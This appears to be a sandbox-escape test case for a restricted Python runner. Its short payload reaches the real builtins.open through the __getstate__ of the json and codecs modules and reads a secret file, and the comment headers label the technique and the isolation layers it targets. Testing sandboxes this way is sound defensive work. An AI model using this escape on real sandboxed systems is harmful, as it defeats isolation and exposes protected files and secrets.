# class: attribute access without a dot
# technique: __getstate__ of a module is a copy of its dictionary
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import json
opener = json.__getstate__()["codecs"].__getstate__()["builtins"].open
return [{"json": {"reached": opener(host["secret"]).read()}}]
